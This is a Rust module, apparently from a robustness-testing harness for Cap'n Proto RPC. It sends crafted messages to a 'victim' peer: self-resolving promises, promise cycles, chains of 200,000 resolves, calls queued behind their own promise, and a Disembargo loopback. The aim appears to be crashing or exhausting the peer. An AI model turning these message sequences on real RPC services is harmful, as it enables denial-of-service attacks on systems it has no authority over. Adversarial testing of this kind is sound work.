//! Attacks by promises that resolve as none should.

use std::time::Duration;

use capnp_rpc::rpc_capnp::{cap_descriptor, message};

use crate::floods::{Field, flood};
use crate::rpc_support::raw::{self, Raw, call_on, encode, finish, resolve_to};
use crate::victim::method;

pub fn keep_promise(peer: &mut Raw, question: u32, target: u32, promise: u32) {
    peer.send(&raw::call_with_cap(question, target, method::KEEP, |mut cap| {
        cap.set_sender_promise(promise)
    }));
}

/// The victim holds promise 5, which resolves to itself; then it is called.
pub fn promise_to_itself_called(peer: &mut Raw, _: &Field) {
    let target = peer.ask_bootstrap();
    keep_promise(peer, 1, target, 5);
    peer.send(&resolve_to(5, |mut cap| cap.set_sender_promise(5)));
    peer.send(&call_on(2, target, method::CALL_KEPT, |_| {}));
    std::thread::sleep(Duration::from_millis(300));
}

/// The same circle by way of an object of the victim's that stands for our promise.
pub fn promise_to_our_promise(peer: &mut Raw, _: &Field) {
    let target = peer.ask_bootstrap();
    keep_promise(peer, 1, target, 5);
    peer.send(&call_on(2, target, method::KEPT_LATER, |_| {}));
    let Some(export) = peer.receive_until(|m| match m.which() {
        Ok(message::Resolve(Ok(resolve))) => Some(resolve.get_promise_id()),
        _ => None,
    }) else {
        return;
    };
    peer.send(&resolve_to(5, |mut cap| cap.set_receiver_hosted(export)));
    peer.send(&call_on(3, target, method::CALL_KEPT, |_| {}));
    std::thread::sleep(Duration::from_millis(300));
}

/// An answer of the victim's is our promise; resolved to itself; then a Disembargo follows it.
pub fn promise_to_itself_disembargo(peer: &mut Raw, _: &Field) {
    let target = peer.ask_bootstrap();
    peer.send(&raw::call_with_cap(1, target, method::ECHO_CAP, |mut cap| {
        cap.set_sender_promise(5)
    }));
    std::thread::sleep(Duration::from_millis(100));
    peer.send(&resolve_to(5, |mut cap| cap.set_sender_promise(5)));
    peer.send(&encode(|root| {
        let mut disembargo = root.init_disembargo();
        let mut answer = disembargo.reborrow().init_target().init_promised_answer();
        answer.set_question_id(1);
        answer.init_transform(1).get(0).set_get_pointer_field(0);
        disembargo.init_context().set_sender_loopback(1);
    }));
    std::thread::sleep(Duration::from_millis(300));
}

pub fn promise_chain(peer: &mut Raw, last: u16) {
    let target = peer.ask_bootstrap();
    peer.drain();
    keep_promise(peer, 1, target, 1);
    for start in (1..200_000).step_by(1000) {
        let mut batch = Vec::new();
        for i in start..start + 1000 {
            batch.extend(resolve_to(i, |mut cap| cap.set_sender_promise(i + 1)));
        }
        if !peer.send(&batch) {
            return;
        }
    }
    peer.send(&call_on(2, target, last, |_| {}));
    std::thread::sleep(Duration::from_millis(500));
}

pub fn promise_chain_called(peer: &mut Raw, _: &Field) {
    promise_chain(peer, method::CALL_KEPT);
}

pub fn promise_chain_dropped(peer: &mut Raw, _: &Field) {
    promise_chain(peer, method::DROP_KEPT);
}

/// Promises of the victim's, each of which waits for the one before: every call follows them all.
pub fn answer_chain(peer: &mut Raw, field: &Field) {
    let target = peer.ask_bootstrap();
    peer.drain();
    // The first never answers, and so no promise settles.
    peer.send(&call_on(1, target, method::NEVER_ANSWER, |_| {}));
    let (mut last, batch) = (1, 1500);
    while field.goes_on() {
        let mut bytes = Vec::new();
        for q in last + 1..=last + batch {
            bytes.extend(raw::call_with_cap(q, target, method::ECHO_CAP_LATER, |cap| {
                let mut answer = cap.init_receiver_answer();
                answer.set_question_id(q - 1);
                answer.init_transform(1).get(0).set_get_pointer_field(0);
            }));
        }
        if !peer.send(&bytes) {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
        bytes.clear();
        (last.max(2)..last + batch).for_each(|q| bytes.extend(finish(q, false)));
        peer.send(&bytes);
        last += batch;
    }
    peer.send(&finish(last, true));
    peer.send(&finish(1, true));
    std::thread::sleep(Duration::from_millis(500));
}

fn part_of(answer: u32) -> impl FnOnce(cap_descriptor::Builder<'_>) {
    move |cap| {
        let mut promised = cap.init_receiver_answer();
        promised.set_question_id(answer);
        promised.init_transform(1).get(0).set_get_pointer_field(0);
    }
}

/// A call of ECHO_CAP on what the answer `answer` holds, with a capability.
fn echo_on_answer(
    question: u32,
    answer: u32,
    describe: impl FnOnce(cap_descriptor::Builder<'_>),
) -> Vec<u8> {
    let mut message = raw::call_on_answer(question, answer, Some(0), method::ECHO_CAP, |call| {
        let mut params = call.init_params();
        describe(params.reborrow().init_cap_table(1).get(0));
        params.get_content().init_as::<capnp_rpc::rpc_capnp::payload::Builder<'_>>();
    });
    let at = message.len() - 16;
    message[at] = 3;
    message
}

/// A call waits in the queue of a promise and has the same promise in its parameters; then the
/// promise becomes an object of ours.
pub fn promise_in_its_own_queue(peer: &mut Raw, _: &Field) {
    let target = peer.ask_bootstrap();
    peer.drain();
    let mut all = raw::call_with_cap(1, target, method::ECHO_CAP_LATER, |mut cap| {
        cap.set_sender_hosted(7);
    });
    // The answer is the promise itself, so that there are two references to one.
    all.extend(raw::call_with_cap(2, target, method::ECHO_CAP, part_of(1)));
    all.extend(echo_on_answer(3, 2, part_of(2)));
    peer.send(&all);
    std::thread::sleep(Duration::from_millis(800));
}

/// The same by way of two promises that turn out to be one.
pub fn two_promises_are_one(peer: &mut Raw, _: &Field) {
    let target = peer.ask_bootstrap();
    peer.drain();
    let mut all = raw::call_with_cap(1, target, method::ECHO_CAP_LATER, |mut cap| {
        cap.set_sender_hosted(7);
    });
    all.extend(raw::call_with_cap(2, target, method::ECHO_CAP, part_of(1)));
    all.extend(raw::call_with_cap(3, target, method::ECHO_CAP, part_of(2)));
    all.extend(raw::call_with_cap(4, target, method::ECHO_CAP, part_of(3)));
    all.extend(echo_on_answer(5, 2, part_of(4)));
    peer.send(&all);
    std::thread::sleep(Duration::from_millis(800));
}

/// Two calls wait in one queue, and the second has the last reference to the first.
pub fn queued_call_holds_another(peer: &mut Raw, _: &Field) {
    let target = peer.ask_bootstrap();
    peer.drain();
    let mut all = call_on(1, target, method::NEVER_ANSWER, |_| {});
    all.extend(raw::call_with_cap(2, target, method::ECHO_CAP, part_of(1)));
    peer.send(&all);
    std::thread::sleep(Duration::from_millis(100));
    let mut all = raw::call_on_answer(3, 2, Some(0), method::ECHO, |_| {});
    all.extend(echo_on_answer(4, 2, part_of(3)));
    peer.send(&all);
    std::thread::sleep(Duration::from_millis(700));
    peer.send(&finish(3, true));
    std::thread::sleep(Duration::from_millis(100));
    peer.send(&finish(4, true));
    std::thread::sleep(Duration::from_millis(100));
}

/// Promises that the victim calls and that then resolve to its own object: each time it waits for
/// an echo that never comes.
pub fn embargoes_not_returned(peer: &mut Raw, field: &Field) {
    let target = peer.ask_bootstrap();
    peer.drain();
    flood(peer, field, |q| {
        let promise = q + 1000;
        let mut all = raw::call_with_cap(2 * q, target, method::KEEP, |mut cap| {
            cap.set_sender_promise(promise)
        });
        all.extend(call_on(2 * q + 1, target, method::CALL_KEPT, |_| {}));
        if q > 32 {
            all.extend(resolve_to(promise - 32, |mut cap| cap.set_receiver_hosted(target)));
        }
        all
    });
}
